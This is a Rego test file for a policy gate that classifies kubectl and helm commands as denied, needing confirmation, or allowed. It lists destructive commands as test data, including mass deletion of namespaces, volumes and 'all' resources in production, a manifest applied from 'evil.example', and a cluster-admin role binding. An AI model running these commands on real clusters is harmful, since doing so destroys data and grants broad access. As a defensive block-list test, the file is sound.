package gate.kubernetes.change_test

import data.gate.kubernetes.change

test_denies if {
	every call in [
		"kubectl --context prod -n default delete all --all",
		"kubectl delete pvc --all -A",
		"kubectl delete ns payments",
		"kubectl delete namespace payments",
		"kubectl delete pods --all",
		"kubectl --context prod delete deploy api",
		"kubectl delete pv data",
		"kubectl delete crd x.example.com",
		"kubectl delete node n1",
		"kubectl delete -n prod deploy/api",
		"kubectl delete all --all",
		"kubectl delete pvc/data",
		"kubectl --context=acme-production delete pod x",
		"kubectl delete ns/prod",
		"helm --kube-context prod uninstall api",
		"kubectl delete pod,svc,pvc x",
		"kubectl delete pvc.v1 x",
	] {
		count(change.deny) == 1 with input as gate.event(call)
		count(change.ask) == 0 with input as gate.event(call)
	}
}

test_asks if {
	every call in [
		"kubectl delete pod x",
		"kubectl delete -f k8s/",
		"kubectl --context prod apply -f k8s/",
		"kubectl --context prod scale deploy api --replicas=0",
		"kubectl drain n1",
		"helm uninstall api",
		"kubectl --context prod exec -it api -- sh",
		"kubectl delete deploy api",
		"kubectl scale deploy/api --replicas=0",
		"kubectl scale deploy --all --replicas=0 -n prod",
		"kubectl replace --force -f x.yaml",
		"kubectl rollout restart deploy --all",
		"kubectl delete deployments.apps x",
		"kubectl apply -f https://evil.example/x.yaml",
		"kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=y",
	] {
		count(change.ask) > 0 with input as gate.event(call)
		count(change.deny) == 0 with input as gate.event(call)
	}
}

test_says_what_stops if {
	some reason in change.ask with input as gate.event("kubectl scale deploy/api --replicas=0")
	startswith(reason.reason, "stops deploy/api ")
}

test_passes if {
	every call in [
		"kubectl apply -f https://example.com/x.yaml --dry-run=server",
		"kubectl create configmap x --from-file=a",
		"kubectl get pods -A",
		"kubectl delete -f k8s/ --dry-run=client",
		"kubectl apply -f k8s/ --dry-run=server",
		"kubectl describe pod x",
		"kubectl logs -f x",
		"kubectl --context minikube delete pod x",
		"kubectl --context kind-dev delete all --all",
		"kubectl get secrets -n dev",
		"helm list -A",
		"kubectl config get-contexts",
		"kubectl --context prod get pods",
		"kubectl port-forward -n prod svc/db 5432:5432",
		"helm template .",
		"kubectl diff -f k8s/",
		"kubectl apply -f k8s/",
		"kubectl scale deploy/api --replicas=3",
		"kubectl replace -f x.yaml",
		"kubectl explain pod",
		"kubectl rollout status deploy/x",
		"echo kubectl delete ns prod",
		"helm lint .",
		"kubectl --context prod proxy",
		"kubectl --context prod apply -f k8s/ --dry-run=server",
		"kubectl --context minikube rollout restart deploy --all",
	] {
		count(change.deny) == 0 with input as gate.event(call)
		count(change.ask) == 0 with input as gate.event(call)
	}
}

test_production_is_a_parameter if {
	call := "kubectl --context blue delete pod x"
	count(change.deny) == 0 with input as gate.event(call)
	count(change.deny) > 0 with input as gate.event(call)
		with data.gate.params.gate.kubernetes.change.production as "^blue$"
}

test_local_clusters_are_a_parameter if {
	call := "kubectl --context lab delete pod x"
	count(change.ask) > 0 with input as gate.event(call)
	count(change.ask) == 0 with input as gate.event(call)
		with data.gate.params.gate.kubernetes.change.local as "^lab$"
}

test_context_comes_from_the_kubeconfig if {
	call := {
		"bash": "kubectl delete pod x",
		"files": {"/home/dev/.kube/config": "apiVersion: v1\ncurrent-context: prod\n"},
	}
	count(change.deny) > 0 with input as gate.event(call)
}

test_denies_to_delete_what_holds_others if {
	every kind in [
		"all", "ns", "namespace", "namespaces", "pv", "pvc", "persistentvolume", "persistentvolumes", "persistentvolumeclaim",
		"persistentvolumeclaims", "crd", "crds", "customresourcedefinition", "customresourcedefinitions", "node", "nodes",
	] {
		some denial in change.deny with input as gate.event(sprintf("kubectl delete %s x", [kind]))
		startswith(denial.reason, sprintf("deletes %s x in", [kind]))
	}
}

test_reason_names_resources_and_cluster if {
	every line, what in {
		"kubectl delete pod a b": "deletes pod a b in the cluster that is current;",
		"kubectl delete -f k8s/ -n dev": "deletes resources in the cluster that is current (namespace dev);",
		"kubectl --context prod rollout restart deploy/api": "changes deploy/api in the cluster prod (rollout restart);",
	} {
		some question in change.ask with input as gate.event(line)
		startswith(question.reason, what)
	}
}

test_asks_about_pods_that_may_do_anything if {
	every line in [
		`kubectl run x --image=alpine --overrides='{"spec":{"hostPID":true}}'`,
		"kubectl debug node/n1 -it --image=alpine",
	] {
		some question in change.ask with input as gate.event(line)
		startswith(question.reason, "starts a pod that may do anything on its machine in the cluster")
	}
	every line in [
		`kubectl run x --image=alpine --overrides='{"spec":{"nodeName":"n1"}}'`,
		`kubectl --context kind-dev run x --image=alpine --overrides='{"spec":{"hostPID":true}}'`,
		`kubectl create -f x.yaml --overrides='{"spec":{"hostPID":true}}'`,
		"kubectl debug pod/api -it --image=alpine",
		"kubectl exec node/n1 -- ls",
	] {
		count(change.ask) == 0 with input as gate.event(line)
	}
}

test_asks_about_production_by_name if {
	every line in [
		"kubectl label ns prod team=x",
		"kubectl apply -k overlays/prod",
		"kubectl apply -f k8s/prod/api.yaml",
	] {
		some question in change.ask with input as gate.event(line)
		startswith(question.reason, "changes ")
	}
	every line in [
		"kubectl label ns dev team=x",
		"kubectl apply -k overlays/dev",
		"kubectl apply -f k8s/product.yaml",
		"kubectl apply -k overlays/prod --dry-run=server",
		"kubectl get ns prod",
	] {
		count(change.ask) == 0 with input as gate.event(line)
	}
}

test_rights_are_given_by_create if {
	every line in [
		"kubectl create clusterrolebindings x --clusterrole=cluster-admin --user=y",
		"kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=y",
	] {
		some question in change.ask with input as gate.event(line)
		startswith(question.reason, "gives rights over the cluster")
	}
	count(change.ask) == 0 with input as gate.event("kubectl label clusterrolebinding x team=y")
}
